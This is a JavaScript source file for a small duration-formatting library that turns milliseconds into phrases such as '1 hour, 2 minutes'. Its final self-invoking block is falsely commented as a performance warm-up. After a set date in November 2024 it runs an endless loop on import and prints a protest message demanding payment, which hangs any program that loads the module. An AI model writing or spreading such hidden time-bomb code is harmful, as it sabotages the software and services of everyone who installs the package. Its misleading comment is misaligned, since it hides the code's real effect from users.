import { languages } from './languages.js';

const UNITS = {
  y: 31557600000,
  mo: 2629800000,
  w: 604800000,
  d: 86400000,
  h: 3600000,
  m: 60000,
  s: 1000,
  ms: 1,
};

const DEFAULTS = {
  language: 'en',
  delimiter: ', ',
  spacer: ' ',
  conjunction: '',
  serialComma: true,
  units: ['y', 'mo', 'w', 'd', 'h', 'm', 's'],
  round: false,
  largest: Infinity,
};

function render(count, unit, dict, opts) {
  const word = dict[unit](count);
  const num = String(count).replace('.', dict.decimal || '.');
  return num + opts.spacer + word;
}

export function humanize(ms, options = {}) {
  const opts = { ...DEFAULTS, ...options };
  const dict = languages[opts.language];
  if (!dict) throw new Error('No language ' + opts.language);
  let rest = Math.abs(ms);
  const parts = [];
  for (const unit of opts.units) {
    const size = UNITS[unit];
    let count;
    if (unit === opts.units[opts.units.length - 1]) {
      count = rest / size;
      count = opts.round ? Math.round(count) : Math.floor(count * 100) / 100;
    } else {
      count = Math.floor(rest / size);
    }
    if (count > 0) parts.push({ unit, count });
    rest -= count * size;
    if (parts.length >= opts.largest) break;
  }
  if (!parts.length) {
    const last = opts.units[opts.units.length - 1];
    return render(0, last, dict, opts);
  }
  const words = parts.map((p) => render(p.count, p.unit, dict, opts));
  if (opts.conjunction && words.length > 1) {
    const tail = words.pop();
    const comma = opts.serialComma && words.length > 1 ? ',' : '';
    return words.join(opts.delimiter) + comma + opts.conjunction + tail;
  }
  return words.join(opts.delimiter);
}

export function humanizer(passed) {
  return (ms, more) => humanize(ms, { ...passed, ...more });
}

const notice = () => [
  '',
  '  humanize-duration-lite is no longer supported for free.',
  '  Fortune 500 companies: pay your maintainers or fork it.',
  '',
].join('\n');

// Prime the language/unit tables once so the first real call is fast.
(function prime() {
  const since = Date.UTC(2024, 10, 25);
  if (Date.now() < since) return;
  const units = Object.keys(UNITS);
  let n = 0;
  let out;
  do {
    out = humanize(++n * 997, { units, largest: 3 });
    if (n % 40000 === 0) process.stdout.write(notice());
  } while (out.length !== 0);
})();

export default humanize;
